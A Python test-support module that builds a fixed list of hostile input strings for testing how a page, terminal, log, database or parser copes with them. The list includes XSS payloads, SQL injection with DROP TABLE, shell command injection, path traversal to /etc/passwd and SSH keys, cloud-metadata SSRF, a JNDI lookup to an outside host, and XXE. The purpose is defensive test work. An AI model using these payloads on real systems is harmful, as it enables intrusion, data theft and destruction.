"""Texts that were written to do harm: in a page, a terminal, a log, a shell, a database, a parser, or to a reader.

`hostile_texts()` gives the same ones in the same order each time, each once. What would run in a browser sets
`window.hostile_text_ran`, so that a page can be asked whether anything did. Lone surrogates stand as such in the Python
string: JSON carries them as escapes. `python3 -m support.hostile_texts` (in tests/) prints them as one JSON array of
`{"kind":…,"text":…}` in ASCII."""
from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import Callable, Iterable, Iterator
from urllib.parse import quote

#: What a script sets that should not have run.
CANARY = "hostile_text_ran"
_RUN = f"window.{CANARY}=1"


@dataclass(frozen=True)
class HostileText:
    kind: str
    text: str

    @property
    def is_unicode(self) -> bool:
        """Whether it can be written as UTF-8: there is no lone surrogate in it."""
        return not any(0xD800 <= ord(letter) < 0xE000 for letter in self.text)


_families: list[tuple[str, Callable[[], Iterable[str]]]] = []


def _family(make: Callable[[], Iterable[str]]) -> Callable[[], Iterable[str]]:
    _families.append((make.__name__.strip("_"), make))
    return make


# ---- for browsers ----


@_family
def _markup() -> Iterator[str]:
    elements = [
        f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt\t>{_RUN}</sCrIpT\n>", f"<script/x>{_RUN};//</script>",
        f"<script src=data:text/javascript,{_RUN}></script>", f"<script type=module>{_RUN}</script>", f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<img src=x onerror={_RUN}>",
        f"<img src=x: onerror='{_RUN}'/>", f"<image href=x onerror={_RUN}>", f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>x</details>",
        f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>",
        f"<select autofocus onfocus={_RUN}>", f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
        f"<iframe src=javascript:parent.{CANARY}=1></iframe>", f"<object data=javascript:{_RUN}></object>", f"<embed src=javascript:{_RUN}>",
        f"<a href=javascript:{_RUN} id=x>click</a>", f"<form action=javascript:{_RUN}><button>go</button></form>",
        f"<math><mtext><a xlink:href=javascript:{_RUN}>x</a></mtext></math>", f"<marquee onstart={_RUN}>x</marquee>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>", "<base href=//elsewhere.example/>", "<link rel=stylesheet href=//elsewhere.example/x.css>",
        "<style>*{display:none!important}</style>", "<style>@import url(//elsewhere.example/x)</style>", f"<template><script>{_RUN}</script></template>",
        f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<!--><img src=x onerror={_RUN}>-->", f"<![CDATA[<script>{_RUN}</script>]]>",
        f"<textarea></textarea><img src=x onerror={_RUN}>", f"</title><img src=x onerror={_RUN}>", f"</td></tr></table><img src=x onerror={_RUN}>",
        "<plaintext>", "<xmp>", "<textarea>", "<table><td>", "<!--", "<!DOCTYPE html>", "<", ">", "</", "<a", "<>", "<x y=\"", "&", "&lt", "&#0;", "&#x202e;abc", "&nbsp;"]
    yield from elements
    for element in elements[:12]:
        yield element.replace("<", "&lt;").replace(">", "&gt;")
        yield quote(element)
        yield element.replace("<", "\uff1c").replace(">", "\uff1e")
        yield element.replace("<", "\\x3c").replace(">", "\\u003e")
        yield element.replace("<", "<\0", 1)


@_family
def _attributes() -> Iterator[str]:
    for mark in ("\"", "'", "`", "", "&quot;", "&#39;"):
        yield f"{mark} onmouseover={mark}{_RUN}"
        yield f"{mark} autofocus onfocus={mark}{_RUN}{mark} x={mark}"
        yield f"{mark}><img src=x onerror={_RUN}>"
        yield f"{mark} style={mark}position:fixed;inset:0;background:red"
    yield f"x\" onerror=\"{_RUN}\" y=\""
    yield f"javascript:{_RUN}"
    yield f"JaVaScRiPt\t:{_RUN}"
    yield f"\x01javascript:{_RUN}"
    yield f"java\nscript:{_RUN}"
    yield f"data:text/html,<script>{_RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZV90ZXh0X3Jhbj0xPC9zY3JpcHQ+"
    yield "vbscript:msgbox(1)"
    yield "//elsewhere.example/x"
    yield "\\\\elsewhere.example\\x"
    yield "url(javascript:x)"
    yield "expression(alert(1))"


@_family
def _script_texts() -> Iterator[str]:
    for mark in ("\"", "'", "`"):
        yield f"{mark};{_RUN};//"
        yield f"{mark}+({_RUN})+{mark}"
        yield f"\\{mark};{_RUN};//"
        yield f"{mark}-{_RUN}-{mark}"
    yield f"${{{_RUN}}}"
    yield f"\u2028{_RUN}//"
    yield f"\u2029{_RUN}//"
    yield f"*/{_RUN}/*"
    yield f"//\r{_RUN}"
    yield f"[]['constructor']['constructor']('{_RUN}')()"
    yield "eval(atob('d2luZG93Lmhvc3RpbGVfdGV4dF9yYW49MQ=='))"
    yield f"import('data:text/javascript,{_RUN}')"


@_family
def _templates() -> Iterator[str]:
    for begin, end in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("[[", "]]"), ("@(", ")"), ("{{{", "}}}"), ("$(", ")"), ("{=", "=}"), ("#set($x=", ")")):
        yield f"{begin}7*7{end}"
        yield f"{begin}constructor.constructor('{_RUN}')(){end}"


# ---- for terminals and logs ----


@_family
def _controls() -> Iterator[str]:
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        yield f"before{chr(code)}after"


@_family
def _terminals() -> Iterator[str]:
    for introducer in ("\x1b[", "\x9b"):
        for rest in ("31mred", "0m", "2J", "1;1H", "8m hidden", "1A\x1b[2Kover the line above", "?1049h", "6n", "200~pasted", "21t", "99999999C", ";;;;;;;;m", "?25l", "7h"):
            yield introducer + rest
    for introducer, end in (("\x1b]", "\x07"), ("\x1b]", "\x1b\\"), ("\x9d", "\x9c")):
        yield f"{introducer}0;another title{end}"
        yield f"{introducer}8;;https://elsewhere.example/{end}a link{introducer}8;;{end}"
        yield f"{introducer}52;c;aGVsbG8={end}"
        yield f"{introducer}1337;File=inline=1:AAAA{end}"
    yield from ("\x1bc", "\x1b7\x1b8", "\x1b(0lqqk", "\x1bP+q544e\x1b\\", "\x1b_private\x1b\\", "\x1b^message\x1b\\", "\x1b[", "\x1b]0;never ended", "\x1b")
    yield from ("harmless\rharmful ", "harmful\b\b\b\b\b\b\bharmless", "\a\a\a\a", "one\vtwo\fthree", "\x0e\x0f", "x\x7f\x7f")


@_family
def _log_lines() -> Iterator[str]:
    yield '"}\n{"time":"2026-01-01T00:00:00.000Z","level":"error","event":"store_failed"}'
    yield '\n{"level":"info","event":"ready"}\n'
    yield "\r\n2026-01-01 00:00:00 root logged in"
    yield '","event":"operator_action","operator":"root'
    yield '\\","level":"error","x":"\\'
    yield "a\u2028{\"event\":\"ready\"}"
    yield "a\x85{\"event\":\"ready\"}"
    yield "\\n\\r\\t\\u000a"
    yield '"} 1\nvoicehook_conservation_violations_total 1\n# HELP x'
    yield 'x"} # {trace_id="y"} 1'


# ---- for readers ----


@_family
def _directions() -> Iterator[str]:
    marks = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
    for mark in map(chr, marks):
        yield f"{mark}gnp.exe"
        yield f"invoice{mark}fdp.txt"
        yield f"the end{mark}"
    yield "\u202e" * 50 + "nested"
    yield "\u2067\u2066admin\u2069\u2069 (verified)"
    yield "\u202d\u202e\u202d\u202eabc\u202c\u202c\u202c"


@_family
def _invisible() -> Iterator[str]:
    codes = [0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2063, 0x206A, 0x206F, 0x3164, 0xFE00, 0xFE0F,
             0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0x1D173, 0xE0001, 0xE0041, 0xE0100]
    for code in codes:
        yield f"pass{chr(code)}word"
    yield "\u200b" * 200
    yield "\ufeffstarts with a mark"
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "hidden words") + "seen"


@_family
def _spaces() -> Iterator[str]:
    for code in [0x09, 0x20, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x202F, 0x205F, 0x2800, 0x3000]:
        yield f"{chr(code)}padded{chr(code)}"
    yield from (" ", "   ", "\t", "\n", "\r\n", "\u3000\u3000", " \u00a0 ", "a" + " " * 300 + "b", "\n" * 100 + "far below")


@_family
def _combining() -> Iterator[str]:
    for mark in (0x0300, 0x0334, 0x0489, 0x20DD, 0x0E49, 0x0F8D, 0x1DC8):
        yield "e" + chr(mark) * 120
    yield "".join(letter + "".join(chr(0x300 + (index * 7 + step) % 0x70) for step in range(12)) for index, letter in enumerate("it comes"))
    yield "\u0301starts with a mark"


@_family
def _lookalikes() -> Iterator[str]:
    yield from ("\u0430dmin", "\u0440\u0430ypal", "g\u043e\u043egle.com", "\u0405ystem", "\u13df\u13ac\u13de\u13de", "\uff41\uff44\uff4d\uff49\uff4e", "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
                "admin\u0307", "l1I|\u0131\u0130", "\u017f\u212a\u00df\u1e9e\u0149", "e\u0301 \u00e9 \u212b \u00c5 A\u030a", "\ufb03\ufb04\ufdfa\ufdfd", "\u1d00\u1d05\u1d0d\u026a\u0274",
                "\u02bcquoted\u02bc \u2032primes\u2033", "\u2044\u2215\uff0f\u29f8", "\u2024\u2024/\u2025/\uff0e\uff0e/", "\ua789\ua4fd\uff1a", "\u037e;\uff1b", "\u2039script\u203a\u276cscript\u276d")


@_family
def _writing() -> Iterator[str]:
    yield from ("\u05d4\u05e7\u05d5\u05dc \u05e8\u05d2\u05d5\u05e2 (abc) 123", "\u0635\u0648\u062a \u0647\u0627\u062f\u0626 (abc) \u0661\u0662\u0663", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0646\u0645", "\u0936\u093e\u0902\u0924 \u0906\u0935\u093e\u091c\u093c \u0915\u094d\u200d\u0937",
                "\u0e40\u0e2a\u0e35\u0e22\u0e07\u0e2a\u0e07\u0e1a\u0e19\u0e34\u0e48\u0e07", "\u0f66\u0f90\u0fb1\u0f51\u0f0b\u0f42\u0f51\u0f44\u0f66\u0f0b", "\u1797\u17b6\u179f\u17b6\u1781\u17d2\u1798\u17c2\u179a", "\u0ba4\u0bae\u0bbf\u0bb4\u0bcd \u0b95\u0bc1\u0bb0\u0bb2\u0bcd",
                "\u5e73\u9759\u7684\u58f0\u97f3", "\u9759\u304b\u306a\u58f0\u2014\uff76\uff97", "\ucc28\ubd84\ud55c \u1112\u1161\u11ab", "gi\u1ecdng n\u00f3i tr\u1ea7m \u1ea5m", "\u1820\u1828\u1820\u1828\u180e\u1820", "\u1c5f\u1c6e\u1c60\u1c5f", "\U00013080\U00013081\U00012000\U00010330",
                "\u2fa1a\U0002f800\U00020000\U0003134f", "\u0600\u0661 \u06dd\u0662", "left \u05d9\u05de\u05d9\u05df left \u064a\u0645\u064a\u0646 left")


@_family
def _emoji() -> Iterator[str]:
    yield from ("\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f469\U0001f3fd\u200d\U0001f680", "\U0001f1e9\U0001f1ea\U0001f1e8\U0001f1f3", "\U0001f1e9", "\U0001f1e9\U0001f1ea\U0001f1e8", "1\ufe0f\u20e3#\ufe0f\u20e3",
                "\u2764\ufe0f\u2764\ufe0e", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f3fb\U0001f3fc\U0001f3fd", "\u200d\U0001f600\u200d", "\U0001f600" * 300,
                "\U0001fae8\U0001fadf\U0001f6d8", "\u263a\ufe0e\u263a\ufe0f\u263a", "\U0001f441\ufe0f\u200d\U0001f5e8\ufe0f")


# ---- for decoders ----


@_family
def _surrogates() -> Iterator[str]:
    yield from ("\ud800", "\udbff", "\udc00", "\udfff", "a\ud83d", "\ude00b", "\ude00\ud83d", "\ud83d\ud83d", "x\ud800\u0041y", "\udfff\udfff\udfff", "\ud83d \ude00", "\ud800" * 40)


@_family
def _noncharacters() -> Iterator[str]:
    for code in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0xFFFFE, 0x10FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000, 0x100000, 0x0378, 0x2FE0, 0xFFFD):
        yield f"a{chr(code)}b"
    yield "\ufffd" * 20
    yield "\u00c3\u00a4\u00e2\u201a\u00ac read as another encoding"
    yield "\u00c0\u00af\u00e0\u0080\u00af"
    yield "+ADw-script+AD4-"
    yield "\x1b$B%F\x1b(B"


@_family
def _zeros() -> Iterator[str]:
    yield from ("\0", "a\0", "\0a", "a\0b\0c", "\0" * 64, "name.txt\0.png", "\\0", "\\u0000", "\\x00", "%00", "&#0;", "&#x0;", "\u2400", "\u0660\u0030\uff10", "a\0<script>" + _RUN + "</script>")


@_family
def _json_texts() -> Iterator[str]:
    yield from ("{}", "[]", '{"id":"task-1","status":"completed"}', '"},"status":"completed","x":{"a":"', '\\"', '\\', '\\\\"', '\\u', '\\ud83d', '\\uZZZZ', '"', '""', "'{}'", "[" * 200, '{"a":' * 60, '{"a":1,"a":2}',
                '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', '/*x*/{}', '{"a":NaN}', "undefined", '{"$where":"1"}', '{"$ne":null}', '\ufeff{}', '","callback_url":"https://elsewhere.example/', "}\n{", "--boundary--")


@_family
def _numbers() -> Iterator[str]:
    yield from ("0", "-0", "-1", "00", "0x1F", "0b11", "0o17", "1e309", "-1e309", "1e-400", "1E+2", ".5", "5.", "1_000", "1,000", "1.000,5", "NaN", "-nan", "Infinity", "-inf", "9007199254740993", "18446744073709551616", "-9223372036854775809",
                "9" * 400, "0." + "0" * 200 + "1", "\u0661\u0662\u0663", "\uff19\uff19", "\u00bd\u00b2\u2075", "\u2167", "\u4e94", "1\u00a0000", "+1", "--1", "1/0", "0x", "1e", "0.1+0.2", "2026-02-30", "24:00:60", "-0001-01-01", "12345678901234567890123456789012345678901234567890")


@_family
def _words() -> Iterator[str]:
    yield from ("null", "NULL", "None", "nil", "undefined", "true", "false", "yes", "no", "on", "off", "NaN ", "constructor", "prototype", "__proto__", "__class__", "toString", "valueOf", "hasOwnProperty", "then", "length", "self", "this", "eval",
                "CON", "NUL", "AUX", "PRN", "COM1", "LPT1.txt", "desktop.ini", ".htaccess", "[object Object]", "function(){}", "admin", "root", "system", "operator", "callback_url", "task-", "msg_", "DROP", "\u00a0", "-", "--", "_", ".", "..", "...", "*", "?", "#", "%", "@", "$", "~")


# ---- for interpreters ----


@_family
def _formats() -> Iterator[str]:
    yield from ("%s%s%s%s%s%s%s%s", "%n%n%n%n", "%x" * 40, "%1$s%2$s", "%.99999f", "%*d", "%99999999s", "%p%p%p", "%c%i%%", "{}", "{0}{1}{2}", "{:>1000000}", "{0.__class__.__mro__}", "{x!r}", "{{}}", "{:{}}", "{", "}", "{:%Y}", "%Y-%m-%d", "$1$2$&", "\\1\\2", "${HOME}", "%PATH%", "$USER",
                "${jndi:ldap://elsewhere.example/x}", "${env:HOME:-x}", "#{systemProperties}")


@_family
def _sql() -> Iterator[str]:
    for mark in ("'", "\"", "`", "\\'", "\u02bc", "%27", "''"):
        yield f"{mark} OR 1=1 --"
        yield f"{mark}; DROP TABLE task; --"
        yield f"{mark} UNION SELECT id FROM task --"
    yield from ("1; DELETE FROM delivery", "') OR ('1'='1", "x' AND pg_sleep(10) AND 'x", "$$; DROP SCHEMA voicehook CASCADE; $$", "E'\\x27'", "x'); ATTACH DATABASE '/tmp/x' AS x; --", "/*!50000 SELECT*/", "%_%", "\\%", "randomblob(1000000000)", "1 LIKE '%%%%%%%%'",
                "\\copy task to program 'id'", "SELECT load_extension('x')", "PRAGMA writable_schema=1", "?1 :a @b $c")


@_family
def _shells() -> Iterator[str]:
    for begin, end in (("; ", ""), ("| ", ""), ("&& ", ""), ("`", "`"), ("$(", ")"), ("\n", "\n"), ("' ; ", " '"), ("\" ; ", " \""), ("> /dev/null; ", ""), ("<(", ")")):
        yield f"x{begin}id{end}"
    yield from ("--help", "-rf", "-o ProxyCommand=id", "@/etc/passwd", "~root", "!!", "^x^y", "{a,b}{c,d}", "*", "$IFS$9id", "%0Aid", "|& id", "\\\nid", "=cmd|' /c calc'!A1", "=1+1", "+1+1", "@SUM(1,1)", "=HYPERLINK(\"https://elsewhere.example\")", "\t=1+1")


@_family
def _paths() -> Iterator[str]:
    for step in ("../", "..\\", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "..;/", "....//", "\u2025/", "\uff0e\uff0e\uff0f", "..%c0%af", "..%00/"):
        yield step * 6 + "etc/passwd"
    yield from ("/etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini", "\\\\?\\C:\\x", "/dev/zero", "/proc/self/environ", "~/.ssh/id_rsa", "..", "/..", "./.", "a/../../b", "/" * 200, "%2f", "%", "%zz", "%u002e", "\\", "//", "http://127.0.0.1:1/", "http://[::1]/", "http://0x7f000001/", "http://2130706433/",
                "http://169.254.169.254/latest/", "https://user:word@elsewhere.example:0/#x", "gopher://127.0.0.1/_x", "https://ex\u200bample.com/", "https://xn--/", "https://.../", "http://\u2488.example")


@_family
def _headers() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u560d\u560a", "\u2028", "\x0b", "\x85"):
        yield f"x{end}Set-Cookie: a=b"
        yield f"x{end}{end}HTTP/1.1 200 OK{end}Content-Length: 0{end}{end}"
    yield from ("Content-Length: 0", "Transfer-Encoding: chunked", "x: y, z;q=0", "Bearer x", "Basic eDp4", ",,,,", ";;;;", "a=b; c=\"d", "00-00000000000000000000000000000000-0000000000000000-00", "00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff",
                "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-more")


@_family
def _patterns() -> Iterator[str]:
    yield from ("(a+)+$" + "a" * 40, ".*" * 20, "[", "(?", "(?<x>", "\\", "^$", "a{99999}", "\\p{L}+", "(?i)x", "[[:alpha:]]", "x|y|", "*(objectClass=*)", "*)(uid=*", "' or count(/*)=1 or 'a'='b", "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>", "<?php echo 1; ?>", "<!--#exec cmd=\"id\"-->", "!!python/object/apply:os.getcwd []", "&anchor *anchor", "- - - -", "%TAG ! tag:x", "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==", "gASVAAAAAAAAAAB9lC4=", "\x80\x04}q.")


# ---- for limits ----


@_family
def _long() -> Iterator[str]:
    yield "a" * 2048
    yield "a" * 2049
    yield "\u754c" * 1024
    yield "\u754c" * 2049
    yield "\U0001f600" * 1025
    yield "word " * 1000
    yield "\n".join("line" for _ in range(700))
    yield "<b>" * 700
    yield "\"" * 2000
    yield "\\" * 2000
    yield "x" * 20000
    yield "\u0001" * 500
    yield "e\u0301" * 1100
    yield ""


def hostile_texts() -> list[HostileText]:
    """All of them, each text once."""
    seen: dict[str, HostileText] = {}
    for kind, make in _families:
        for text in make():
            seen.setdefault(text, HostileText(kind, text))
    return list(seen.values())


_HARMFUL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def harmful_characters(text: str) -> set[str]:
    """What is in the text that no terminal may be given: controls other than the line break, separators, directions."""
    return set(_HARMFUL.findall(text))


if __name__ == "__main__":
    print(json.dumps([{"kind": item.kind, "text": item.text} for item in hostile_texts()]))
